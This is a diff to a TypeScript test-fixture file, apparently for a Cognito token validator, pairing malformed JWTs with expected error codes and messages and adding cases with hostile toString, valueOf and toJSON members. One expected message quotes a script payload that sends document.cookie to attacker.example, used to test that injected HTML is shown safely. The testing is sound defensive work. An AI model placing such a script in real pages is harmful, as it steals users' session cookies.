@@ -41,7 +41,7 @@ export const text: readonly Row[] = [
     ['HTML as use', access({ token_use: SCRIPT })],
   ),
   ...rows(
-    { algorithm: 'ALGORITHM_NOT_ALLOWED', signature: 'SIGNATURE_WRONG' },
+    { algorithm: 'ALGORITHM_NOT_ALLOWED' },
     'ALGORITHM_NOT_ALLOWED',
     'The token says that it is signed with “<script>fetch("https://attacker.example/?"+document.cookie)…”, and Cognito only signs with RS256: another system made or changed it; get one by signing in.',
     ['HTML as alg', access({}, { alg: SCRIPT })],
@@ -189,7 +189,7 @@ export const text: readonly Row[] = [
     ],
   ),
   ...rows(
-    { algorithm: 'ALGORITHM_MISSING', signature: 'SIGNATURE_WRONG' },
+    { algorithm: 'ALGORITHM_MISSING' },
     'ALGORITHM_MISSING',
     'The token does not say how it is signed (alg), as every token of Cognito does: get one by signing in.',
     [
@@ -236,5 +236,20 @@ export const text: readonly Row[] = [
     'STALE_ATTRIBUTES',
     'The access token is valid, but it still says “username” is “é”; the user’s value is now “é”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again.',
     ['a username in another normal form', access({ username: 'e\u0301' }), named('é')],
+  ),
+  ...rows(
+    { algorithm: 'ALGORITHM_MISSING', issuer: 'ISSUER_MISSING', time: 'TIME_NOT_SANE' },
+    'ALGORITHM_MISSING',
+    'The token does not say how it is signed (alg), as every token of Cognito does: get one by signing in.',
+    [
+      'a toString of its own in every member',
+      access({ iss: { toString: 1 }, exp: { valueOf: 1 } }, { alg: { toString: 1 } }),
+    ],
+  ),
+  ...rows(
+    { client: 'CLIENT_MISSING' },
+    'CLIENT_MISSING',
+    'The access token does not name the app client that it was issued to (client_id): Cognito did not make it so; get one by signing in.',
+    ['a toJSON of its own in every member', access({ aud: { toJSON: 1 }, client_id: { toJSON: 'x' } })],
   ),
 ];
